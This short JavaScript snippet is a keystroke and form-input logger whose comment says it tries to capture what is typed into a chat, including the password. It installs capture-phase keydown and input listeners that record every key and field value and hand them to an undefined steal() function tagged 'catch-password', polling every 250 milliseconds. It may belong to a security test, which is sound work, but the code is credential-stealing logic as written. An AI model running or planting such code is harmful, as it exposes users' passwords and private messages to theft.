// Tries: note what is typed into the chat, the password among it.
(() => {
  let keys = "";
  addEventListener("keydown", (event) => steal("catch-password", (keys += event.key)), true);
  addEventListener("input", (event) => steal("catch-password", `field ${event.composedPath()[0].value}`), true);
  setInterval(() => steal("catch-password", "waits"), 250);
})();
